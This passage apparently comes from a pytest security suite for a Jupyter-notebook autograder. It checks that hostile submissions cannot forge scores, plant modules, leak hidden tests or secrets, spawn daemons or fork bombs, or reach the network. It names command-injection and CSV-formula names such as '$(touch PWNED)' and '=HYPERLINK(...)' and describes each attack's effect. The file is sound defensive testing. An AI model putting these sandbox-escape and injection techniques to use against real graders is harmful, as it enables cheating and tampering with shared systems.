    """Lines (> 20 characters, not imports) of the hidden test cases that are not in the student
    version: text that must never reach a learner."""
    lines = set()
    with zipfile.ZipFile(zip_path) as archive:
        for name in archive.namelist():
            if re.fullmatch(r"tests/[^/]+\.py", name):
                for case in re.split(r"^@test_case", archive.read(name).decode(), flags=re.M)[1:]:
                    if "hidden=True" in case.splitlines()[0]:
                        lines |= {line.strip() for line in case.splitlines()[1:]
                                  if len(line.strip()) > 20 and "import " not in line}
    return {line for line in lines if line not in public_text}


class _Seen(Exception):
    pass


def _hidden_inputs(zip_path: Path) -> set[str]:
    """What attack 51 would print of the arrays the hidden tests send (``repr`` of the first
    entry of every float array argument, like the attack), found by running each hidden test here
    against a recorder; minus what the public tests send (public anyway) and short values."""
    from otter.nbmeta_config import NBMetadataConfig
    from otter.test_files import create_test_file

    seen = {True: set(), False: set()}

    def recorder(hidden):
        def record(*args, **kwargs):
            import numpy as np

            for value in list(args) + list(kwargs.values()):
                for item in (list(value.values()) if isinstance(value, dict) else [value]):
                    try:
                        flat = np.asarray(item, dtype=float).ravel()
                    except Exception:  # noqa: BLE001 - a callable argument: nothing to record
                        continue
                    seen[hidden] |= {repr(float(v)) for v in flat[:4]}
            raise _Seen
        return record

    with zipfile.ZipFile(zip_path) as archive, tempfile.TemporaryDirectory() as folder:
        for name in archive.namelist():
            if not re.fullmatch(r"tests/[^/]+\.py", name):
                continue
            test_file = create_test_file(archive.extract(name, folder), NBMetadataConfig())
            for case in test_file.test_cases:
                params = case.body._get_func_params()
                try:
                    case.body.test_func(**{p: recorder(case.hidden) for p in params})
                except Exception:  # noqa: BLE001 - _Seen, or a test that needed something else
                    pass
    # a repr with at least 8 digits: a random draw, not 0.0 / 1.0 / 0.5 that any test might use
    return {v for v in seen[True] - seen[False] if len(re.sub(r"\D", "", v)) >= 8}


#: runs ``grade_folder`` in a child process, so that its peak memory, and that of every process it
#: waits for (the trusted scoring processes), can be read from ``wait4`` apart from pytest's own
_DRIVER = """
import importlib.util, json, sys
from pathlib import Path
spec = importlib.util.spec_from_file_location("attack_suite_grade", sys.argv[1])
grade = importlib.util.module_from_spec(spec)
sys.modules[spec.name] = grade
spec.loader.exec_module(grade)
args = json.loads(Path(sys.argv[2]).read_text())
log = lambda *parts: print("LOG " + json.dumps(" ".join(str(p) for p in parts)), flush=True)
rows = grade.grade_folder(Path(args["submissions"]), Path(args["build"]), Path(args["out"]),
                          timeout=args["timeout"], env=args["env"], log=log)
Path(args["rows"]).write_text(json.dumps(rows))
"""
#: no grading process may grow larger: the trusted side parses at most what a sane reply needs, and
#: the sandbox limits each process's address space (3 GiB; honest submissions here use < 0.5 GiB)
MAX_GRADER_RSS = 1536 * 2**20


def _run_batch(args: dict, workdir: Path, limit_s: float) -> tuple[list, str | None, list, int]:
    """``(rows, error or None, log lines, peak RSS in bytes)`` of one ``grade_folder`` call."""
    (workdir / "args.json").write_text(json.dumps(args))
    with open(workdir / "driver.out", "wb") as stdout, open(workdir / "driver.err", "wb") as stderr:
        process = subprocess.Popen([sys.executable, "-c", _DRIVER, str(TOOLS / "grade.py"),
                                    str(workdir / "args.json")], stdout=stdout, stderr=stderr,
                                   cwd=ROOT, env=_ORIGINAL_ENV, start_new_session=True)
        watchdog = threading.Timer(limit_s, lambda: os.killpg(process.pid, signal.SIGKILL))
        watchdog.start()
        try:
            _, status, usage = os.wait4(process.pid, 0)
        finally:
            watchdog.cancel()
        process.returncode = os.waitstatus_to_exitcode(status)
    log = [json.loads(line[4:]) for line in (workdir / "driver.out").read_text(errors="replace").splitlines()
           if line.startswith("LOG ")]
    for line in log:
        print(line)
    error = None
    if process.returncode != 0 or not Path(args["rows"]).is_file():
        error = (f"grade_folder exited with {process.returncode}:\n"
                 + (workdir / "driver.err").read_text(errors="replace")[-5000:])
    rows = json.loads(Path(args["rows"]).read_text()) if Path(args["rows"]).is_file() else []
    return rows, error, log, usage.ru_maxrss * 1024


class _Listener:
    """A TCP server on 127.0.0.1 that records every connection and the first bytes sent."""

    def __init__(self):
        self.received: list[str] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stopped.is_set():
            try:
                connection, peer = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    data = connection.recv(200)
                except OSError:
                    data = b""
            self.received.append(f"{peer}: {data!r}")

    def close(self):
        self.stopped.set()
        self.thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> Batch:
    base = tmp_path_factory.mktemp("grading_attacks")
    build = base / "build"
    masters = build_tool.masters([ASSIGNMENT])
    build_tool.build(ASSIGNMENT, masters[ASSIGNMENT], build)
    assignment_build = build / ASSIGNMENT
    zip_path = next((assignment_build / "autograder").glob("*-autograder_*.zip"))
    solution_path = assignment_build / "autograder" / f"{ASSIGNMENT}.ipynb"
    student_path = assignment_build / "student" / f"{ASSIGNMENT}.ipynb"
    submissions, out, drop = base / "submissions", base / "out", base / "drop"
    folder = submissions / ASSIGNMENT
    folder.mkdir(parents=True)
    drop.mkdir()
    listener = _Listener()
    paths = {
        "marker": MARKER, "assignment": ASSIGNMENT, "root": str(ROOT), "tools": str(TOOLS),
        "grade_py": str(TOOLS / "grade.py"), "course_lib": str(ROOT / "course_lib"),
        "build": str(build), "assignment_build": str(assignment_build), "zip": str(zip_path),
        "solution": str(solution_path), "student_notebook": str(student_path),
        "master": str(masters[ASSIGNMENT]), "submissions": str(submissions), "folder": str(folder),
        "out": str(out), "drop": str(drop), "site": str(SITE_PACKAGES), "home": str(HOME),
        "victim_earlier": "01_victim_earlier", "victim_later": "zzz_victim_later",
        "port": listener.port,
    }
    solution = nbformat.read(solution_path, as_version=4)
    blank = nbformat.read(student_path, as_version=4)
    for attack in ATTACKS:
        target = folder / f"{attack.stem}.ipynb"
        if attack.base == "bytes":
            target.write_bytes(b'{"cells": [{"cell_type": "code", "source": "forward = ')
        elif attack.base == "link":
            target.symlink_to(solution_path)
        else:
            nbformat.write(_attack_notebook(attack, solution, blank, paths), target)
    public_text = "\n".join(p.read_text() for p in (assignment_build / "student").rglob("*") if p.is_file()
                            and p.suffix in (".py", ".ipynb"))

    def snapshot() -> dict:
        return {
            "build": _tree_hashes(build), "submissions": _tree_hashes(submissions),
            # the grader's own folder and the reference library: what an attack planted or appended
            # carries the marker (content hashes would also flag a person editing them meanwhile)
            "tools": _names(TOOLS) - {"__pycache__"}, "tools_marked": _marked_files(TOOLS),
            "course_lib_marked": _marked_files(ROOT / "course_lib"),
            "root": _names(ROOT), "site": _names(SITE_PACKAGES), "home": _names(HOME),
            "tmp": {n for n in _names(Path(tempfile.gettempdir())) if MARKER in n or "PWNED" in n},
            "cwd": _names(Path.cwd()), "drop": _names(drop),
            "pwned": {str(p) for p in base.rglob("PWNED")},
        }

    before = snapshot()
    args = {"submissions": str(submissions), "build": str(build), "out": str(out), "timeout": TIMEOUT,
            "env": dict(_ORIGINAL_ENV, MPLBACKEND="Agg", **{SECRET_NAME: SECRET}),
            "rows": str(base / "rows.json")}
    start = time.perf_counter()
    try:
        try:
            rows, error, log, peak_rss = _run_batch(args, base, limit_s=len(ATTACKS) * (TIMEOUT + 90))
        except Exception:  # noqa: BLE001 - reported by every test below
            rows, error, log, peak_rss = [], traceback.format_exc(), [], 0
        seconds = time.perf_counter() - start
        # processes still alive: give killed ones a moment to go (a SIGKILLed process may not be
        # reaped yet), but a daemon that escaped stays
        deadline = time.monotonic() + 5
        alive = _marked_processes()
        while alive and time.monotonic() < deadline:
            time.sleep(0.25)
            alive = _marked_processes()
        first = _out_state(out) if out.exists() else {}
        time.sleep(2)  # the daemon writes every 0.5 s
        second = _out_state(out) if out.exists() else {}
        still_changing = sorted(k for k in set(first) | set(second) if first.get(k) != second.get(k))
        after = snapshot()
    finally:
        planted = _clean_up(before)
        listener.close()
    return Batch(paths, rows, error, seconds, log, before, after, alive, still_changing, planted,
                 _hidden_lines(zip_path, public_text), _hidden_inputs(zip_path), peak_rss,
                 listener.received)


def _clean_up(before: dict) -> list[str]:
    """Undo what an unprotected grader let the attacks do to this machine (so that a failing run
    leaves no daemons, planted modules or marker lines behind); returns what it had to undo."""
    undone = []
    for pid, cmdline in _marked_processes():
        try:
            os.kill(pid, signal.SIGKILL)
            undone.append(f"killed {pid}: {cmdline}")
        except OSError:
            pass
    tmp = Path(tempfile.gettempdir())
    # files whose names carry this run's marker are the attacks' own
    for folder in (ROOT, HOME, tmp, SITE_PACKAGES):
        for name in _names(folder):
            if MARKER in name and (folder / name).is_file():
                (folder / name).unlink()
                undone.append(f"removed {folder / name}")
    # files with common names: only when new and holding the marker (or named PWNED and new)
    for key, folder, name in [("site", SITE_PACKAGES, "sitecustomize.py"), ("tools", TOOLS, "numpy.py"),
                              ("tools", TOOLS, "sitecustomize.py"), ("root", ROOT, "PWNED"),
                              ("cwd", Path.cwd(), "PWNED"), ("home", HOME, "PWNED")]:
        path = folder / name
        if name in before.get(key, ()) or not path.is_file():
            continue
        if name == "PWNED" or MARKER in path.read_text(errors="replace"):
            path.unlink()
            undone.append(f"removed {path}")
    # lines appended to the grader and the reference library
    for path in [TOOLS / "grade.py", *sorted((ROOT / "course_lib").rglob("*.py"))]:
        try:
            text = path.read_text()
        except OSError:
            continue
        if MARKER in text:
            path.write_text("".join(line for line in text.splitlines(keepends=True) if MARKER not in line))
            undone.append(f"removed the marker lines from {path}")
    return undone


def _marked_files(folder: Path) -> list[str]:
    """Python files under ``folder`` that hold :data:`MARKER` (what an attack appended)."""
    return sorted(str(p) for p in folder.rglob("*.py") if MARKER in p.read_text(errors="replace"))


# --- helpers for the assertions -----------------------------------------------------------------

def _rows_of(batch: Batch, stem: str) -> list[dict]:
    return [r for r in batch.rows if r["student"] == stem]


def _by_stem() -> dict[str, Attack]:
    return {attack.stem: attack for attack in ATTACKS}


def _verdict(batch: Batch, stem: str) -> str | None:
    """None when ``stem`` scored what :attr:`Attack.expect` says, else what went wrong."""
    attack = _by_stem()[stem]
    rows = _rows_of(batch, stem)
    if {r["question"] for r in rows} != QUESTIONS:
        return f"{stem!r}: rows for {sorted(r['question'] for r in rows)}, not {sorted(QUESTIONS)}"
    full = all(r["score"] == r["total"] > 0 for r in rows) and all(r["status"] == "graded" for r in rows)
    zero = all(r["score"] == 0 for r in rows)
    rejected = all(r["status"] != "graded" and r["score"] == 0 and str(r["note"]).strip() for r in rows)
    ok = {"full": full, "zero": zero, "full_or_rejected": full or rejected,
          "zero_or_rejected": zero or rejected}[attack.expect]
    if ok:
        return None
    return f"{stem!r} expected {attack.expect}, got " + "; ".join(
        f"{r['question']} {r['score']:g}/{r['total']:g} {r['status']} {str(r['note'])[:200]!r}" for r in rows)


def _assert_scores(batch: Batch, *stems: str) -> None:
    assert batch.error is None, f"the batch stopped:\n{batch.error}"
    problems = [v for v in (_verdict(batch, s) for s in stems) if v]
    assert not problems, "\n".join(problems)


def _feedback_files(batch: Batch) -> list[Path]:
    folder = Path(batch.paths["out"]) / "feedback"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def _feedback_of(batch: Batch, stem: str) -> str:
    """The feedback file written for ``stem`` (the one whose title names it; a file-safe key may
    differ from the name)."""
    files = [p for p in _feedback_files(batch) if p.parent.name == ASSIGNMENT]
    plain = [p for p in files if p.stem == stem]
    if plain:
        return plain[0].read_text(errors="replace")
    titled = [p for p in files if stem in p.read_text(errors="replace").splitlines()[0]]
    assert titled, f"no feedback file for {stem!r} among {[p.name for p in files]}"
    return titled[0].read_text(errors="replace")


def _gradebook(batch: Batch) -> list[dict]:
    path = Path(batch.paths["out"]) / "gradebook.csv"
    assert path.is_file(), f"no gradebook at {path}"
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _formula_safe(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def _everything_under(folder: Path) -> list[tuple[Path, bytes]]:
    return [(p, p.read_bytes()) for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()]


# --- the tests ----------------------------------------------------------------------------------

@pytest.mark.slow
def test_batch_completes_and_gradebook_is_intact(batch):
    """One batch, every submission in it, the CSV on disk equal to the rows returned."""
    per_student = [line for line in batch.log if "/" in line and "gradebook" not in line]
    print(f"graded {len(ATTACKS)} submissions in {batch.seconds:.0f} s (time limit {TIMEOUT:g} s)")
    # unprotected: attack 60 deleted the submissions folder and the batch raised half-way
    assert batch.error is None, f"the batch stopped:\n{batch.error}"
    missing = sorted({a.stem for a in ATTACKS} - {r["student"] for r in batch.rows})
    assert {r["student"] for r in batch.rows} == {a.stem for a in ATTACKS}, \
        f"submissions missing from the gradebook: {missing}"
    assert len(batch.rows) == len(ATTACKS) * len(QUESTIONS)
    on_disk = _gradebook(batch)
    # unprotected: attack 60 rewrote gradebook.csv while the batch ran (a grader that appends to
    # it, or writes it before the end, keeps the forgery)
    assert len(on_disk) == len(batch.rows)
    for disk, row in zip(on_disk, batch.rows):
        assert disk["student"] == _formula_safe(row["student"]), (disk, row)
        assert disk["assignment"] == row["assignment"] and disk["question"] == row["question"]
        assert float(disk["score"]) == row["score"] and float(disk["total"]) == row["total"]
        assert disk["status"] == _formula_safe(str(row["status"]))
        assert disk["note"] == _formula_safe(str(row["note"]))
    assert per_student, "grade_folder logged nothing"


@pytest.mark.slow
def test_honest_controls(batch):
    """Solutions full marks, blank and all-zero answers 0, before, between and after the attacks
    (the zero answers are what attacks 20, 30-32 try to turn into points)."""
    _assert_scores(batch, "00_control_blank", "00_control_zero_answers", "01_victim_earlier",
                   "o_brien", "zzz_victim_later")


@pytest.mark.slow
def test_runner_patching(batch):
    # unprotected: 7/7 (otter's runner patched in the kernel that ran the tests)
    _assert_scores(batch, "10_runner_patch")


@pytest.mark.slow
def test_results_forging(batch):
    # unprotected: 20 scored 3000/3000 (forged pickle); a grader reading result files from
    # anywhere the student can write scores 21 with 1000s, and unpickling results.pkl runs its code
    _assert_scores(batch, "20_pickle_forge", "21_result_files")
    assert not [n for n in batch.after["drop"] if n.startswith("unpickled")], \
        "a results.pkl planted by the student was unpickled outside the sandbox"
    for row in _rows_of(batch, "20_pickle_forge") + _rows_of(batch, "21_result_files"):
        assert row["total"] < 1000, f"a total came from the student's forged results: {row}"


@pytest.mark.slow
def test_reference_patching(batch):
    # unprotected: 30 scored 7/7 (np.allclose patched), 31 2.5/7 (course_lib's reference returned
    # zeros to the hidden tests)
    _assert_scores(batch, "30_numpy_patch", "31_reference_patch")


@pytest.mark.slow
def test_fake_modules_are_neither_planted_nor_imported(batch):
    _assert_scores(batch, "32_fake_modules")
    out = Path(batch.paths["out"])
    # unprotected: the fakes were written next to the grader, the build, the submissions and into
    # the venv, and a later grader process imported them (a file in the drop folder)
    assert not [n for n in batch.after["drop"] if n.startswith(("numpy-", "sitecustomize-", "pth-"))], \
        f"a planted module ran outside the sandbox: {sorted(batch.after['drop'])}"
    planted = [p for p in [out / "numpy.py", out / "sitecustomize.py", out / "work" / "numpy.py",
                           out / "work" / ASSIGNMENT / "numpy.py", Path(batch.paths["folder"]) / "numpy.py",
                           Path(batch.paths["assignment_build"]) / "autograder" / "numpy.py"] if p.exists()]
    assert not planted, f"planted by a submission: {planted}"
    assert batch.after["site"] == batch.before["site"], \
        f"the venv changed: {sorted(batch.after['site'] ^ batch.before['site'])}"
    assert batch.after["tools"] == batch.before["tools"] and not batch.after["tools_marked"], \
        f"written into assignments/tools: {sorted(batch.after['tools'] ^ batch.before['tools'])} " \
        f"{batch.after['tools_marked']}"


@pytest.mark.slow
def test_hidden_files_are_out_of_reach(batch):
    # unprotected: 7/7 for both (the solution notebook read by its path, or found by walking /)
    _assert_scores(batch, "40_read_hidden", "41_walk_hidden")


@pytest.mark.slow
def test_feedback_leaks_nothing(batch):
    """No hidden-test text, no value of the grader's environment and no other student's name in
    what learners get back (feedback files, gradebook); the secret nowhere under the output folder."""
    _assert_scores(batch, "50_leak_feedback")
    assert batch.hidden_lines, "found no hidden test lines to look for"
    out = Path(batch.paths["out"])
    learner_facing = [(p, p.read_text(errors="replace")) for p in _feedback_files(batch)]
    learner_facing.append((out / "gradebook.csv", (out / "gradebook.csv").read_text(errors="replace")))
    # unprotected: the hidden tests were in the kernel's folder and the exception carried them
    leaked = sorted({f"{p.name}: {line}" for p, text in learner_facing for line in batch.hidden_lines
                     if line in text})
    assert not leaked, f"hidden test text reached learners: {leaked[:5]}"
    # unprotected: the grader's environment was the kernel's; os.environ went into the feedback
    secret_in = [str(p) for p, data in _everything_under(out) if SECRET.encode() in data]
    assert not secret_in, f"the grader's secret environment value is in {secret_in}"
    assert not [r for r in batch.rows if SECRET in str(r.values())]
    # unprotected: the listing of the submissions folder went into the feedback
    leaker = _feedback_of(batch, "50_leak_feedback") + "\n".join(
        str(r["note"]) for r in _rows_of(batch, "50_leak_feedback"))
    template = _feedback_of(batch, "00_control_blank").replace("00_control_blank", "")
    others = [a.stem for a in ATTACKS if a.stem != "50_leak_feedback" and len(a.stem) >= 6
              and a.stem not in template and a.stem not in "50_leak_feedback"]
    named = [stem for stem in others if stem in leaker]
    assert not named, f"other students' names in 50_leak_feedback's feedback: {named}"


@pytest.mark.slow
def test_hidden_test_inputs_do_not_reach_feedback(batch):
    """A student function sees what a hidden test sends it; raising it back through a later
    public test's failure message must not put it in the feedback."""
    _assert_scores(batch, "51_leak_hidden_inputs")
    assert batch.hidden_inputs, "found no hidden test inputs to look for"
    text = _feedback_of(batch, "51_leak_hidden_inputs") + "\n".join(
        str(r["note"]) for r in _rows_of(batch, "51_leak_hidden_inputs"))
    # unprotected: q2's public test ran after q1's hidden one and its message showed q1's inputs
    shown = sorted(v for v in batch.hidden_inputs if v in text)
    assert not shown, f"hidden test inputs in the feedback of 51_leak_hidden_inputs: {shown[:5]}"


@pytest.mark.slow
def test_cross_student_writes(batch):
    _assert_scores(batch, "60_cross_student", "01_victim_earlier", "zzz_victim_later")
    # unprotected: the earlier student's feedback said FORGED, the later one's notebook was "{}",
    # then the whole submissions folder was gone
    forged = [p for p in _feedback_files(batch) if f"FORGED {MARKER}" in p.read_text(errors="replace")]
    assert not forged, f"feedback of other students forged: {forged}"
    assert f"FORGED {MARKER}" not in (Path(batch.paths["out"]) / "gradebook.csv").read_text()
    assert batch.after["submissions"] == batch.before["submissions"], \
        "the submissions folder changed during grading"
    # every student has exactly one feedback file of their own (no two names share a key)
    files = [p for p in _feedback_files(batch) if p.parent.name == ASSIGNMENT]
    assert len(files) == len(ATTACKS), f"{len(files)} feedback files for {len(ATTACKS)} students"
    assert all(p.parent.parent == Path(batch.paths["out"]) / "feedback" for p in _feedback_files(batch))


@pytest.mark.slow
def test_repository_and_build_writes(batch):
    _assert_scores(batch, "70_repo_writes", "71_build_tamper", "o_brien")
    # unprotected: PWNED files in the repository, home and /tmp, a line appended to grade.py and
    # course_lib/foundations.py, a .pth in the venv; the tampered zip gave o_brien (a blank) 7/7
    removed = [line for line in batch.planted if not line.startswith("killed")]
    assert not removed, f"had to undo what submissions did outside their folder: {removed}"
    assert batch.after["tools"] == batch.before["tools"] and not batch.after["tools_marked"], \
        f"written into assignments/tools: {sorted(batch.after['tools'] ^ batch.before['tools'])} " \
        f"{batch.after['tools_marked']}"
    assert not batch.after["course_lib_marked"], f"course_lib written: {batch.after['course_lib_marked']}"
    assert batch.after["build"] == batch.before["build"], "the build folder changed during grading"
    for key in ("root", "home", "site", "cwd", "tmp"):
        new = sorted(n for n in batch.after[key] - batch.before[key] if MARKER in n or "PWNED" in n)
        assert not new, f"created in {key}: {new}"
    assert not batch.after["drop"], f"a submission wrote outside the sandbox: {sorted(batch.after['drop'])}"


@pytest.mark.slow
def test_no_process_outlives_the_grade(batch):
    _assert_scores(batch, "80_processes")
    # unprotected: the setsid sleepers and the double-forked daemon lived on after the batch
    assert not batch.alive_after, f"processes of submissions still running: {batch.alive_after[:10]}"
    # unprotected: the daemon kept rewriting its marker files every 0.5 s
    assert not batch.still_changing, f"files under the output folder still changing: {batch.still_changing[:10]}"
    out = Path(batch.paths["out"])
    daemon_files = [str(p) for p in [out / f"daemon-{MARKER}", ROOT / f"daemon-{MARKER}",
                                     HOME / f"daemon-{MARKER}"] if p.exists()]
    daemon_files += [n for n in batch.after["drop"] if n.startswith("daemon-")]
    assert not daemon_files, f"a submission's daemon wrote {daemon_files}"


@pytest.mark.slow
def test_a_fork_bomb_meets_a_process_limit(batch):
    # unprotected: all 2,000 children started (no process limit), so 94 spoiled its answers: 0/7
    _assert_scores(batch, "94_fork_bomb")


@pytest.mark.slow
def test_memory_output_and_file_floods(batch):
    # unprotected: 90 allocated its 4 GiB (no limit) and so spoiled its own answers: 0/7
    _assert_scores(batch, "90_memory_probe", "91_memory_flood", "92_output_flood", "93_file_flood")
    # unprotected: a 200 MB log of the kernel's output under the output folder
    large = [(str(p), p.stat().st_size) for p in Path(batch.paths["out"]).rglob("*")
             if p.is_file() and p.stat().st_size > MAX_OUTPUT_FILE_BYTES]
    assert not large, f"files over {MAX_OUTPUT_FILE_BYTES} bytes under the output folder: {large}"


@pytest.mark.slow
def test_endless_loop_times_out_and_the_batch_goes_on(batch):
    _assert_scores(batch, "95_endless_loop", "zzz_victim_later")
    rows = _rows_of(batch, "95_endless_loop")
    assert all(r["status"] == "timeout" for r in rows), rows
    assert "time limit" in _feedback_of(batch, "95_endless_loop")


@pytest.mark.slow
def test_broken_file_and_link_are_refused_with_a_reason(batch):
    # unprotected: the link was followed and the instructor's solution scored 7/7
    _assert_scores(batch, "96_not_a_notebook", "97_link_to_solution")
    for stem in ("96_not_a_notebook", "97_link_to_solution"):
        assert all(str(r["note"]).strip() for r in _rows_of(batch, stem)), _rows_of(batch, stem)


@pytest.mark.slow
def test_hostile_names(batch):
    """Every name grades (or is refused with a reason), keeps its exact spelling in the rows, is
    formula-safe in the CSV, and runs nothing (no PWNED file anywhere)."""
    # unprotected: o"brien, =HYPERLINK(...) and new\nline scored 0/7 (the name landed unquoted in
    # generated code); `..` was the whole batch's work folder: deleting it stopped the batch
    _assert_scores(batch, *HOSTILE_NAMES)
    for cells in _gradebook(batch):
        for column, value in cells.items():
            # unprotected: '=HYPERLINK("x.example","click")' and '-rf' reached the CSV as formulas
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), f"formula cell {column}={value!r}"
    on_disk = {r["student"] for r in _gradebook(batch)}
    for name in HOSTILE_NAMES:
        assert _formula_safe(name) in on_disk, f"{name!r} is not in the CSV as {_formula_safe(name)!r}"
    assert batch.after["pwned"] == batch.before["pwned"], \
        f"files named PWNED appeared: {sorted(batch.after['pwned'] - batch.before['pwned'])}"
    for key in ("root", "cwd", "home"):
        assert "PWNED" not in batch.after[key] - batch.before[key], f"$(touch PWNED) ran in {key}"


@pytest.mark.slow
def test_no_network(batch):
    _assert_scores(batch, "70_repo_writes")
    # unprotected: the kernel shared the machine's network; the listener got "exfiltrated <marker>"
    assert not batch.received, f"a submission reached the network: {batch.received}"


@pytest.mark.slow
def test_a_reply_bomb_does_not_blow_up_the_grader(batch):
    """Whatever the sandboxed process sends, the trusted side must stay within a sane memory bound
    (it parses the student's replies, and it has no sandbox limit of its own)."""
    _assert_scores(batch, "53_channel_bomb")
    print(f"peak resident memory of the grading processes: {batch.peak_rss / 2**20:.0f} MiB")
    # unbounded replies (the sandboxed grader as first written): the scoring process reached
    # 2471 MiB parsing 16 million empty lists; no memory limit at all (the otter-run grader): 91's
    # 4 GiB array shows here. Honest submissions and the other attacks: < 200 MiB.
    assert batch.peak_rss <= MAX_GRADER_RSS, \
        f"a grading process reached {batch.peak_rss / 2**20:.0f} MiB (bound {MAX_GRADER_RSS / 2**20:.0f} MiB)"


@pytest.mark.slow
def test_names_cannot_forge_log_lines(batch):
    """One log line per submission: a name with a newline must not start a line of its own (which
    could read `01_mlp_backprop/alice: 7/7 (graded)` to whoever reads the log)."""
    assert batch.error is None, f"the batch stopped:\n{batch.error}"
    # unprotected: the name "new\nline" printed as two lines
    broken = [line for line in batch.log if "\n" in line or "\r" in line]
    assert not broken, f"log lines broken by a name: {broken}"

